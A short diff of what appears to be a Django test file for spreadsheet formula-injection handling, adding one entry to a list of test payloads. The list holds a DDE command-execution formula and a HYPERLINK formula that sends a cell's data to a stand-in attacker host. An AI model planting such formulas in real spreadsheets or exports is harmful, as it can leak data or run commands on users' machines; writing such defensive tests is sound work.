@@ -16,6 +16,7 @@ pytestmark = pytest.mark.django_db
 
 # What has run as a formula, or has hidden one, in a spreadsheet.
 PAYLOADS = [
+    "<r>Profit & loss</r>",
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
